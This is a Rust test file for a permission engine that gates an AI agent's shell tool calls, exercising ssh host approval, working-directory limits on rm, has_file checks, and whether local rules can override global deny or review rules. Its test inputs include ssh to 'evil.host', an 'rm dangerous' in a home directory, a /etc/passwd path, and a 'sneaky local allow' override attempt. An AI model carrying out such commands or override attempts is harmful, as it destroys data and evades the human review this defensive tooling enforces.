        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^ssh\\b"
arg = "@approved\\.host$"
action = "evaluate"
target = "remote_cmds"
opts_with_args = ["-i", "-p"]
positional = 1

[table.remote_cmds]
default = "deny"

[[table.remote_cmds.rules]]
command = "^ls\\b"
action = "allow"
"#,
    );

    // ssh to approved host, safe command → allowed
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ssh user@approved.host ls /tmp"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);

    // ssh to unapproved host → evaluate rule doesn't match, falls to default deny
    let result = evaluate(
        &config,
        "Bash",
        &bash_input("ssh user@evil.host ls /tmp"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

#[test]
fn test_cwd_mixed_pipeline_deny_wins() {
    // rm in /tmp (allowed) + rm in /home (cwd mismatch → denied) → deny wins
    let config = make_config(
        r#"
[table.input]
default = "deny"

[[table.input.rules]]
command = "^rm\\b"
cwd = "^/tmp(/.*)?$"
action = "allow"
"#,
    );

    let result = evaluate(
        &config,
        "Bash",
        &bash_input("cd /tmp && rm safe; cd /home/user && rm dangerous"),
        "/home/user",
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
}

// ── has_file matching ────────────────────────────────────────────────────

#[test]
fn test_has_file_matches_when_exists() {
    let tmp = "/tmp/permiter_test_hf_match";

    let config = make_config(r#"
[table.input]
default = "passthrough"
[[table.input.rules]]
tool = "Bash"
command = "^pip"
has_file = ".venv/bin/pip"
action = "allow"
reason = "has_file matches"
"#);
    let result = evaluate_among(
        &config,
        "Bash",
        &bash_input("pip install foo"),
        tmp,
        None,
        &["/tmp/permiter_test_hf_match/.venv/bin/pip", "/tmp/permiter_test_hf_match/.git"],
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
}

#[test]
fn test_has_file_no_match_when_missing() {
    let tmp = "/tmp/permiter_test_hf_miss";
    let config = make_config(r#"
[table.input]
default = "passthrough"
[[table.input.rules]]
tool = "Bash"
command = "^pip"
has_file = ".venv/bin/pip"
action = "allow"
"#);
    let result = evaluate_among(
        &config,
        "Bash",
        &bash_input("pip install foo"),
        tmp,
        None,
        &["/tmp/permiter_test_hf_miss/.git"],
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Passthrough);
}

#[test]
fn test_has_file_rejects_absolute_path() {
    let config_str = r#"
[table.input]
default = "passthrough"
[[table.input.rules]]
tool = "Bash"
has_file = "/etc/passwd"
action = "allow"
"#;
    let config = parse_config(config_str);
    assert!(config.validate().is_err());
}

// ── evaluate_with_local ─────────────────────────────────────────────────

#[test]
fn test_local_rules_convert_passthrough_to_allow() {

    let config = make_config(
        r#"
[global]
local_rules = true
[table.input]
default = "passthrough"
"#,
    );
    let local = LocalRuleSet {
        regex_cache: Default::default(),
        source_dir: ".permiter".to_string(),
        rules: vec![RuleConfig {
            tool: Some("^Bash$".to_string()),
            command: Some("^pip".to_string()),
            file_path: None,
            subagent_type: None,
            prompt: None,
            cwd: None,
            cwd_not: None,
            arg: None,
            arg_not: None,
            stdin: None,
            stdin_not: None,
            stdout: None,
            stdout_not: None,
            env: None,
            env_not: None,
            has_file: None,
            has_file_not: None,
            action: Action::Allow,
            reason: Some("local pip allow".to_string()),
            target: None,
            flag_arg: None,
            positional: None,
            opts_with_args: vec![],
        }],
    };
    let result = evaluate_with_local(
        &config,
        "Bash",
        &bash_input("pip install foo"),
        "/tmp",
        Some(&local),
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Allow);
    assert_eq!(result.source, ".permiter");
}

#[test]
fn test_local_rules_cannot_override_deny() {

    let config = make_config(
        r#"
[global]
local_rules = true
[table.input]
default = "deny"
"#,
    );
    let local = LocalRuleSet {
        regex_cache: Default::default(),
        source_dir: ".permiter".to_string(),
        rules: vec![RuleConfig {
            tool: Some("^Bash$".to_string()),
            command: Some("^pip".to_string()),
            file_path: None,
            subagent_type: None,
            prompt: None,
            cwd: None,
            cwd_not: None,
            arg: None,
            arg_not: None,
            stdin: None,
            stdin_not: None,
            stdout: None,
            stdout_not: None,
            env: None,
            env_not: None,
            has_file: None,
            has_file_not: None,
            action: Action::Allow,
            reason: Some("local pip allow".to_string()),
            target: None,
            flag_arg: None,
            positional: None,
            opts_with_args: vec![],
        }],
    };
    let result = evaluate_with_local(
        &config,
        "Bash",
        &bash_input("pip install foo"),
        "/tmp",
        Some(&local),
    )
    .unwrap();
    assert_eq!(result.decision, Decision::Deny);
    assert_eq!(result.source, "global");
}

#[test]
fn test_local_rules_cannot_override_force_passthrough() {

    let config = make_config(
        r#"
[global]
local_rules = true
[table.input]
default = "deny"
[[table.input.rules]]
tool = "Bash"
command = "^pip"
action = "force_passthrough"
reason = "pip always needs review"
"#,
    );
    let local = LocalRuleSet {
        regex_cache: Default::default(),
        source_dir: ".permiter".to_string(),
        rules: vec![RuleConfig {
            tool: Some("^Bash$".to_string()),
            command: Some("^pip".to_string()),
            file_path: None,
            subagent_type: None,
            prompt: None,
            cwd: None,
            cwd_not: None,
            arg: None,
            arg_not: None,
            stdin: None,
            stdin_not: None,
            stdout: None,
            stdout_not: None,
            env: None,
            env_not: None,
            has_file: None,
            has_file_not: None,
            action: Action::Allow,
            reason: Some("sneaky local allow".to_string()),
            target: None,
            flag_arg: None,
            positional: None,
            opts_with_args: vec![],
        }],
    };
    let result = evaluate_with_local(
        &config,
        "Bash",
        &bash_input("pip install foo"),
        "/tmp",
        Some(&local),
    )
    .unwrap();
    assert_eq!(result.decision, Decision::ForcePassthrough);
    assert_eq!(result.source, "global");
}
